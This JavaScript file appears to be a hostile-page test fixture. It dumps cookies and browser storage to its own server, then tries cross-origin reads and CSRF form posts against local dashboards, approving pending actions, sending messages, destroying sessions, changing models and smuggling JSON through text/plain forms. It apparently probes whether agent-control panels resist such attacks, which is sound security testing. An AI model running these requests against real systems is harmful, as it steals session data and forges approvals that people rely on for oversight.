// The hostile page's script (served by hostile_page.py): every attempt is reported
// as {what, ...} to its own server; "done" last.
"use strict";
const T = JSON.parse(document.getElementById("targets").textContent);
const report = (what, data) =>
  fetch("/report", { method: "POST", body: JSON.stringify({ what, ...data }) });
const dump = (store) => {
  const out = {};
  for (let i = 0; i < store.length; i++) out[store.key(i)] = store.getItem(store.key(i));
  return out;
};
async function attempt(label, url, init) {
  try {
    const r = await fetch(url, { credentials: "include", ...init });
    let body = "";
    try { body = await r.text(); } catch (e) { body = `unreadable: ${e}`; }
    await report("fetch", { label, url, type: r.type, status: r.status, body });
  } catch (e) {
    await report("fetch", { label, url, error: String(e) });
  }
}
function formPost(url, fields, enctype) {
  const frame = document.createElement("iframe");
  frame.name = `f${Math.random().toString(36).slice(2)}`;
  document.body.append(frame);
  const form = document.createElement("form");
  form.method = "POST";
  form.action = url;
  form.target = frame.name;
  if (enctype) form.enctype = enctype;
  for (const [k, v] of Object.entries(fields)) {
    const i = document.createElement("input");
    i.name = k; i.value = v; form.append(i);
  }
  document.body.append(form);
  form.submit();
  return new Promise((ok) => { frame.onload = ok; setTimeout(ok, 3000); });
}
(async () => {
  await report("storage", {
    cookie: document.cookie, local: dump(localStorage), session: dump(sessionStorage),
    hash: location.hash, referrer: document.referrer,
  });
  const form = new URLSearchParams({ to: T.victim, body: "pwned", note: "pwned", text: "yes", choice: "yes" });
  for (const d of T.dashboards) {
    await attempt("dashboard state", `${d}/api/state`);
    await attempt("dashboard page keys", `${d}/api/webui-keys`);
    await attempt("dashboard stream", `${d}/dashboard/stream`);
    await attempt("dashboard journal", `${d}/api/journal/${T.victim}`);
    for (const id of T.approvals) {
      await attempt("approve", `${d}/approve/${id}`, { method: "POST", body: form });
      await attempt("approve no-cors", `${d}/approve/${id}`, { method: "POST", body: form, mode: "no-cors" });
    }
    await attempt("send", `${d}/send`, { method: "POST", body: form, mode: "no-cors" });
    await attempt("answer", `${d}/answer-question/${T.question}`, { method: "POST", body: form, mode: "no-cors" });
    await attempt("destroy", `${d}/destroy/${T.victim}`, { method: "POST", mode: "no-cors" });
    for (const id of T.approvals) await formPost(`${d}/approve/${id}`, {});
    await formPost(`${d}/send`, { to: T.victim, body: "pwned by form" });
    await formPost(`${d}/answer-question/${T.question}`, { choice: "yes" });
    await formPost(`${d}/purge-tombstone/${T.tombstone}`, {});
  }
  for (const p of T.pages) {
    await attempt("page state", `${p}/api/state`);
    await attempt("page history", `${p}/events/history`);
    await attempt("page send", `${p}/api/send`, {
      method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ body: "pwned" }),
    });
    await attempt("page model no-cors", `${p}/api/model`, {
      method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: JSON.stringify({ model: "opus" }),
    });
    await attempt("page send no-cors", `${p}/api/send`, {
      method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: JSON.stringify({ body: "pwned" }),
    });
    await formPost(`${p}/api/model`, { '{"model":"opus","x":"': '"}' }, "text/plain");
    await formPost(`${p}/api/send`, { '{"body":"pwned by form","x":"': '"}' }, "text/plain");
    await formPost(`${p}/api/new-session`, {});
    await formPost(`${p}/api/login/start`, {});
  }
  await report("done", {});
})();
